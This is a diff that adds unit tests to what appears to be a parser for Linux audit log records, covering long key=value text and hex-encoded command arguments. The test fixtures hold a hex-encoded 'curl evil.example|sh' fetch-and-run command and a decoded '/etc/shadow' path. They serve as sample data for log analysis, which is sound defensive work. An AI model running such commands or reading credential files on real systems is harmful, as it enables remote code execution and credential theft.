@@ -36,7 +36,18 @@ describe("key=value text", () => {
   });
 });
 
+describe("the pairs of a text longer than 65,536 characters", () => {
+  test("are those at its start", () => {
+    expect(read(`type=EXECVE a0="sh" ${"x".repeat(70_000)}`, "a0")).toBe("sh");
+  });
+});
+
 describe("hexadecimal text", () => {
+  test("that is too long for a number is decoded with the control characters it has", () => {
+    const digits = Buffer.from("curl evil.example|sh #\u001b").toString("hex");
+    expect(decodeHex(digits)).toContain("curl evil.example|sh");
+  });
+
   test("is decoded, with blanks between arguments", () => {
     expect(decodeHex("2F6574632F736861646F77")).toBe("/etc/shadow");
     expect(decodeHex("6C73002D6C00")).toBe("ls -l");
